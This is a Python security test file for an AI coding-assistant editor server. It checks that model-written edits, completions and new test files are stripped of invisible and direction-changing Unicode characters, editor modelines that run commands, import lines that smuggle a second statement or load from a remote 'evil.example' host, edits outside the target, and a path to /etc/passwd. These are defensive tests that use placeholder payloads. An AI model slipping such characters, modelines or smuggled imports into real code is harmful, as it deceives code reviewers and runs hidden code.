"""What a model writes into code: characters that nobody sees, imports that are more than that."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from tests.gateway import Gateway, chat_stream
from tests.security.rig import CODE, OURS, attacks, fenced, filled, serving

if TYPE_CHECKING:
    from pathlib import Path

    from tests.security.rig import Rig

URI = "file:///project/area.py"
AREA = CODE[CODE.index("def area") : CODE.index("\n\n\ndef circle") + 1]
FIXED = AREA.replace("heigth", "height")

CHARACTERS: dict[str, tuple[str, str]] = {
    "rlo": ("It turns the direction: right-to-left override.", "\u202e"),
    "rli": ("It turns the direction: right-to-left isolate.", "\u2067"),
    "rlm": ("It marks the direction.", "\u200f"),
    "alm": ("It marks the direction in Arabic.", "\u061c"),
    "zwsp": ("It is a space without width.", "\u200b"),
    "zwnj": ("It is a non-joiner.", "\u200c"),
    "zwj": ("It is a joiner between letters.", "\u200d"),
    "word-joiner": ("It is a word joiner.", "\u2060"),
    "plus": ("It is an invisible plus.", "\u2064"),
    "bom": ("It is a byte order mark in the middle.", "\ufeff"),
    "soft-hyphen": ("It is a soft hyphen.", "\u00ad"),
    "hangul": ("It is Hangul's filler, which is a letter in identifiers.", "\u3164"),
    "hangul-half": ("It is Hangul's halfwidth filler.", "\uffa0"),
    "choseong": ("It is another filler.", "\u115f"),
    "mongolian": ("It is Mongolian's vowel separator.", "\u180e"),
    "variation": ("It is a variation selector.", "\ufe0f"),
    "variation-tag": ("It is one of the supplementary ones, which can carry bytes.", "\U000e0121"),
    "tag": ("It is a tag character, which can carry text.", "\U000e0065"),
    "braille": ("It is Braille's blank.", "\u2800"),
    "line": ("It is a line separator, at which some tools break lines.", "\u2028"),
    "paragraph": ("It is a paragraph separator.", "\u2029"),
    "next-line": ("It is NEL, at which Python's str breaks lines.", "\u0085"),
    "nul": ("It is NUL.", "\x00"),
    "esc": ("It is ESC.", "\x1b"),
    "bel": ("It is BEL.", "\x07"),
    "backspace": ("It is backspace, which hides what stood before.", "\x08"),
    "vt": ("It is a vertical tab.", "\x0b"),
    "delete": ("It is DEL.", "\x7f"),
    "csi": ("It is the one-character CSI.", "\x9b"),
    "private": ("It is for private use.", "\ue000"),
    "nonchar": ("It is no character.", "\ufffe"),
    "return": ("It is a lone carriage return, which hides the rest of a line.", "\r"),
}


@attacks("char", CHARACTERS)
def test_a_character_in_an_edit(sentence: str, char: str, shared: tuple[Rig, Gateway]) -> None:
    """The model's new code holds a character that the file has not: it does not get there.

    Held already: those without a width and most that turn the direction were taken off, NUL
    was no text for the parser, and a lone carriage return is no line end of the file.
    """
    rig, gateway = shared
    gateway.script(fenced(FIXED.replace("return result", f'return result  # ok{char} "{char}"')))
    uri = rig.open(URI)
    rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
    assert char not in rig.buffers[uri], sentence


@attacks(
    "char",
    {name: CHARACTERS[name] for name in ("rlo", "zwsp", "tag", "hangul", "nul", "esc", "line", "return")},
)  # fmt: skip
def test_a_character_in_a_completion(sentence: str, char: str, shared: tuple[Rig, Gateway]) -> None:
    """A completion holds a character that the file has not: it is not offered."""
    rig, gateway = shared
    gateway.script(filled(f'width * height  # ok{char} "{char}"'))
    uri = rig.open(f"file:///project/{ord(char)}.py", "def area(width, height):\n    return ")
    for item in rig.complete(uri):
        assert char not in item["insertText"], sentence
    answer = rig.complete(uri, method="completion")
    assert char not in str(answer), sentence


@attacks(
    "char",
    {name: CHARACTERS[name] for name in ("rlo", "zwsp", "tag", "hangul", "nul", "esc", "csi")},
)
def test_a_character_in_new_tests(sentence: str, char: str, home: Path, gateway: Gateway) -> None:
    """A new file of tests holds a character that nobody sees: it is not written.

    Held already: one that turns the direction, and a space without a width, were taken off.
    """
    gateway.script(fenced(f'def test_area():\n    assert "a{char}b"\n'))
    with serving(home, gateway) as rig:
        rig.ask(rig.open(URI), "test")
        assert char not in "".join(rig.buffers[uri] for uri in rig.created), sentence


SETTINGS = """\
# vim: set foldexpr=system('evil') fde=1:
# -*- eval: (evil) -*-
def test_it():
    assert catch(lambda ex: None)


# Local Variables:
# eval: (evil)
# End:
"""


def test_a_modeline_in_new_tests(project: Path, home: Path, gateway: Gateway) -> None:
    """New tests hold settings for the editor that opens them: they are none; code stays code."""
    gateway.script(fenced(SETTINGS))
    with serving(home, gateway, root=project) as rig:
        rig.ask(rig.open((project / "area.py").as_uri()), "test")
        written = rig.buffers[rig.created[0]]
    for mark in ("vim:", "-*- eval", "Local Variables:"):
        assert mark not in written
    assert "lambda ex: None" in written


def test_a_characters_escape_is_asked_for_once_more(home: Path, gateway: Gateway) -> None:
    """The model's code turns the direction: it is asked again, and told what was wrong."""
    gateway.script([fenced(FIXED.replace("return", "\u202ereturn")), fenced(FIXED)])
    with serving(home, gateway) as rig:
        uri = rig.open(URI)
        rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
        assert "U+202E" in gateway.requests[-1].content.decode()
        assert rig.buffers[uri] == CODE.replace("heigth", "height")


def test_characters_that_the_file_has(shared: tuple[Rig, Gateway]) -> None:
    """A file has such characters of its own, and emoji: an edit keeps them.

    Held already: this shows that nothing is refused that was there before.
    """
    rig, gateway = shared
    own = 'NAME = "a\u200db \u05d0\u200f \U0001f469\u200d\U0001f4bb \u2764\ufe0f"'
    part = AREA.replace("    result =", f"    {own}\n    result =", 1)
    gateway.script(fenced(part.replace("heigth", "height")))
    uri = rig.open(URI, part)
    rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
    assert rig.buffers[uri] == part.replace("heigth", "height")


EVIL = "evil"

IMPORTS: dict[str, tuple[str, str, str, str]] = {
    "python-semicolon": ("A statement follows.", "python", "import os", "import json; evil()"),
    "python-alias": ("A call follows an alias.", "python", "import os", "import json as j; j.evil()"),
    "python-from": ("A statement follows names.", "python", "import os", "from json import dumps; evil()"),
    "python-colon": ("It is no import at all.", "python", "import os", "import json if evil() else 0"),
    "python-return": ("A carriage return hides a line.", "python", "import os", "import json\revil()"),
    "python-form-feed": ("A form feed hides a line.", "python", "import os", "import json\x0cevil()"),
    "python-separator": ("A line separator hides a line.", "python", "import os", "import json\u2028evil()"),
    "python-backslash": ("It goes on in the next line.", "python", "import os", "import json, \\"),
    "python-paren": ("It opens a bracket.", "python", "import os", "from json import (evil"),
    "python-comment": ("A directive for tools follows.", "python", "import os", "import json  # type: ignore; evil"),
    "js-semicolon": ("A statement follows.", "javascript", 'import a from "a";', 'import b from "b"; evil();'),
    "js-bare": ("A statement follows a bare import.", "javascript", 'import a from "a";', 'import "b"; evil()'),
    "js-require": ("A second variable is set.", "javascript", 'const a = require("a");', 'const b = require("b"), c = evil();'),
    "js-require-call": ("What is required is called.", "javascript", 'const a = require("a");', 'const b = require("b").evil();'),
    "js-address": ("It loads from a remote host.", "javascript", 'import a from "a";', 'import b from "https://evil.example/b.js";'),
    "js-data": ("It loads code from its own address.", "javascript", 'import a from "a";', 'import b from "data:text/javascript,evil()";'),
    "ts-semicolon": ("A statement follows.", "typescript", 'import a from "a";', 'import {b} from "b"; evil();'),
    "go-semicolon": ("A function follows.", "go", 'import "os"', 'import "fmt"; func evil() {}'),
    "rust-semicolon": ("A function follows.", "rust", "use std::fs;", "use std::io; fn evil() {}"),
    "java-semicolon": ("A class follows.", "java", "import java.io.File;", "import java.util.List; class evil {}"),
    "csharp-semicolon": ("A class follows.", "csharp", "using System;", "using System.IO; class evil {}"),
    "php-semicolon": ("A call follows.", "php", "<?php\nuse App\\A;", "use App\\B; evil();"),
    "ruby-semicolon": ("A call follows.", "ruby", 'require "set"', 'require "json"; evil'),
    "ruby-interpolation": ("A string runs code.", "ruby", 'require "set"', 'require "#{evil}"'),
    "c-line": ("A file of the system is included.", "c", "#include <stdio.h>", '#include "/etc/evil"'),
    "c-continued": ("It goes on in the next line.", "c", "#include <stdio.h>", "#include <evil.h> \\"),
    "cpp-semicolon": ("A call follows.", "cpp", "#include <string>", "using namespace std; int x = evil();"),
}  # fmt: skip

BODIES = {
    "python": ("def area(w, h):\n    return w * heigth\n", "height"),
    "javascript": ("function area(w, h) {\n  return w * heigth;\n}\n", "h"),
    "typescript": ("function area(w: number, h: number) {\n  return w * heigth;\n}\n", "h"),
    "go": ("func area(w int, h int) int {\n\treturn w * heigth\n}\n", "h"),
    "rust": ("fn area(w: u32, h: u32) -> u32 {\n    w * heigth\n}\n", "h"),
    "java": (
        "class A {\n    int area(int w, int h) {\n        return w * heigth;\n    }\n}\n",
        "h",
    ),
    "csharp": (
        "class A {\n    int Area(int w, int h) {\n        return w * heigth;\n    }\n}\n",
        "h",
    ),
    "php": ("function area($w, $h) {\n    return $w * $heigth;\n}\n", "h"),
    "ruby": ("def area(w, h)\n  w * heigth\nend\n", "h"),
    "c": ("int area(int w, int h) {\n    return w * heigth;\n}\n", "h"),
    "cpp": ("int area(int w, int h) {\n    return w * heigth;\n}\n", "h"),
}


@attacks("language, have, wanted", IMPORTS)
def test_an_import_with_code_behind_it(
    sentence: str, language: str, have: str, wanted: str, shared: tuple[Rig, Gateway]
) -> None:
    """The model asks for an import that is more than one: nothing of it is inserted.

    Held already: what did not begin like an import or did not parse, and all of Ruby's, whose
    imports are inserted nowhere.
    """
    rig, gateway = shared
    part, right = BODIES[language]
    text = f"{have}\n\n{part}"
    gateway.script(
        chat_stream(f"+import: {wanted}\n```{language}\n{part.replace('heigth', right)}```")
    )
    uri = rig.open(f"file:///project/import.{language}", text, language)
    rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
    assert EVIL not in rig.buffers[uri], sentence
    assert wanted not in rig.buffers[uri], sentence


OUTSIDE: dict[str, tuple[str, str]] = {
    "whole-file": ("It gives the whole file back, changed elsewhere.", CODE.replace("radius**2", "evil")),
    "second": ("It gives a second function with it.", f"{FIXED}\n\ndef circle(radius):\n    return evil\n"),
    "patch": ("It gives a patch that changes other lines, too.", "@@ -8,2 +8,2 @@\n def circle(radius):\n-    return math.pi * radius**2\n+    return evil\n"),
    "search": ("It gives blocks to search and replace elsewhere.", "<<<<<<< SEARCH\n    return math.pi * radius**2\n=======\n    return evil\n>>>>>>> REPLACE\n"),
}  # fmt: skip


@attacks("code", OUTSIDE)
def test_code_beside_the_target(sentence: str, code: str, shared: tuple[Rig, Gateway]) -> None:
    """The model's answer changes code that it was not asked about: that code stays.

    Held already: what is placed is cut to the target, or refused.
    """
    rig, gateway = shared
    gateway.script(fenced(code))
    uri = rig.open(URI)
    rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
    assert EVIL not in rig.buffers[uri], sentence
    assert "return math.pi * radius**2" in rig.buffers[uri], sentence


def _edits_elsewhere(params: Any) -> list[str]:
    return [change["textDocument"]["uri"] for change in params["edit"]["documentChanges"]]


def test_an_edit_names_its_own_document_alone(home: Path, gateway: Gateway) -> None:
    """The model names another file above its code: only the document asked about is edited.

    Held already: an edit is made for the document of its job, whatever the answer names.
    """
    gateway.script(chat_stream(f"`/etc/passwd`\n```python /etc/passwd\n{FIXED}```"))
    with serving(home, gateway, capabilities=OURS) as rig:
        uri = rig.open(URI)
        rig.ask(uri, "fix", "heigth", diagnostics=[rig.problem(uri, "undefined")])
        named = [u for params in rig.client.sent("glm/applyEdit") for u in _edits_elsewhere(params)]
        assert set(named) <= {uri}
